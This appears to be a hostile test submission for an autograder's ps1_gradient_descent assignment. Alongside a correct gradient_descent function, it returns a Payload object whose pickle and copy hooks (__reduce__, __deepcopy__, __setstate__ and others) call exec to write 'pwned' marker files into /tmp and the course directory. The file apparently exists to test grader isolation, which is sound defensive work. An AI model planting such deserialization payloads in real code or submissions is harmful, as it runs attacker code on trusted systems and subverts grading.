# HOSTILE CASE: a return value whose unpickling (or copying) runs code.
# Assignment: ps1_gradient_descent
# Tries: get_minimizer_x returns an object whose __reduce__/__reduce_ex__ make the unpickler call
#        exec(...) (writing marker files in /tmp and in the course), with the same payload behind
#        __copy__/__deepcopy__/__getstate__/__setstate__; if the grader pickled results across the
#        boundary, the payload would run on the trusted side.
# Honest: gradient_descent is correct (may earn full marks); get_minimizer_x must earn nothing.
# Bounded: the payload only writes two marker files named after @@MARKER@@.
import numpy as np

PAYLOAD = (
    "open('/tmp/@@MARKER@@-pickle', 'w').write('pwned');"
    "open('@@COURSE@@/@@MARKER@@-pickle', 'w').write('pwned')"
)


class Payload:
    def __reduce__(self):
        return (exec, (PAYLOAD,))

    def __reduce_ex__(self, protocol):
        return (exec, (PAYLOAD,))

    def __copy__(self):
        exec(PAYLOAD)
        return self

    def __deepcopy__(self, memo):
        exec(PAYLOAD)
        return self

    def __getstate__(self):
        exec(PAYLOAD)
        return {}

    def __setstate__(self, state):
        exec(PAYLOAD)


def get_minimizer_x(iterations, learning_rate, init):
    return Payload()


def gradient_descent(grad_fn, x0, learning_rate, iterations):
    x = np.array(x0, dtype=float)
    for _ in range(iterations):
        x = x - learning_rate * np.asarray(grad_fn(x), dtype=float)
    return x
